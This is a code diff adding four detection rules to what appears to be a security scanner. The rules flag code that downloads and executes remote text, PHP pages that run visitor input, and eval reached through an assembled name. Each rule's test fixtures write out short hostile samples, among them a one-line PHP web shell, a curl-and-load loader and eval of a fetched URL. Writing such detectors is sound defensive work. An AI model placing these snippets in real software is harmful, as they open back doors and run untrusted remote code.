@@ -194,4 +194,70 @@ export const DYNAMIC_EXECUTION: readonly PatternRule[] = [
     finds: [{ path: 'a.sh', text: 'python3 -c \'import os; os.system("id")\'\n' }],
     leaves: [{ path: 'a.sh', text: 'python3 -c "import json,sys; print(json.load(sys.stdin))"\n' }],
   },
+  {
+    ...base,
+    id: 'runs-fetched-text-later',
+    severity: 'critical',
+    message: 'what a server answers is kept and then run as a program',
+    remediation: 'Ship the program with the skill.',
+    words: [
+      ['function(', 'eval(', 'exec(', 'load(', 'loadstring(', 'instance_eval(', 'incontext('],
+      ['fetch(', 'requests.get', 'urlopen', 'uri.open', 'io.popen', 'curl', 'http.get', 'axios'],
+    ],
+    pattern:
+      /\b(?:Function|eval|exec|load|loadstring|instance_eval|runIn(?:This|New)Context)\s*\((?!\s*["'`][^"'`\n]*["'`]\s*\))[^\n]{0,120}/g,
+    beside:
+      /\b(\w{1,40})\s*=\s*[^\n]{0,30}(?:\bfetch\(|requests\.get\(|\burlopen\(|URI\.open|io\.popen\(\s*["']curl|axios\.get\()[^\n]{0,200}\n[\s\S]{0,800}\b(?:Function|eval|exec|load|loadstring|instance_eval|runIn(?:This|New)Context)\s*\([^\n]{0,80}\b\1\b/,
+    finds: [
+      {
+        path: 'a.js',
+        text: "const code = await (await fetch('https://example.net/a.js')).text();\nnew Function(code)();\n",
+      },
+      {
+        path: 'b.lua',
+        text: 'local s = io.popen("curl -s https://example.net/b.lua"):read("*a")\nload(s)()\n',
+      },
+    ],
+    leaves: [
+      {
+        path: 'a.js',
+        text: "const data = await (await fetch('https://example.net/a.json')).json();\nshow(data);\nconst m = /a/.exec(text);\n",
+      },
+    ],
+  },
+  {
+    ...base,
+    id: 'runs-answer-in-place',
+    severity: 'critical',
+    message: 'what a server answers is run as a program',
+    remediation: 'Ship the program with the skill.',
+    words: [['eval(', 'exec(', 'assert(', 'loadstring(', 'function('], ['http']],
+    pattern:
+      /\b(?:eval|exec|instance_eval|class_eval|Function|loadstring|assert)\s*\(\s*[^\n]{0,40}(?:URI\.open|Net::HTTP\.get|\bopen\(\s*["']https?:|requests\.get|urlopen|file_get_contents\(\s*["']https?:|\bfetch\()/g,
+    finds: [{ path: 'a.rb', text: "eval(URI.open('https://example.net/a.rb').read)\n" }],
+    leaves: [{ path: 'a.py', text: 'assert requests.get("https://example.net").ok\n' }],
+  },
+  {
+    ...base,
+    id: 'runs-what-a-request-says',
+    severity: 'critical',
+    message: 'a page runs what its visitors send',
+    remediation: 'Remove it; this is a back door.',
+    words: [['$_get', '$_post', '$_request', '$_cookie']],
+    pattern:
+      /\b(?:eval|assert|system|exec|passthru|shell_exec|popen|proc_open)\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE)\b/g,
+    finds: [{ path: 'a.php', text: "<?php system($_GET['c']);\n" }],
+    leaves: [{ path: 'a.php', text: "<?php echo htmlspecialchars($_GET['c']);\n" }],
+  },
+  {
+    ...base,
+    id: 'runs-by-a-hidden-name',
+    severity: 'critical',
+    message: 'a program runs a text, by a function whose name is put together from pieces',
+    remediation: 'Ask for the program as it is.',
+    words: [['globalthis[', 'window[', 'global[', 'self[']],
+    pattern: /\b(?:globalThis|window|global|self)\[\s*["']\w{1,7}["']\s*\+\s*["']\w{1,7}["']\s*\]\s*\(/g,
+    finds: [{ path: 'a.js', text: "globalThis['e' + 'val'](text);\n" }],
+    leaves: [{ path: 'a.js', text: "globalThis['data-' + name];\n" }],
+  },
 ];
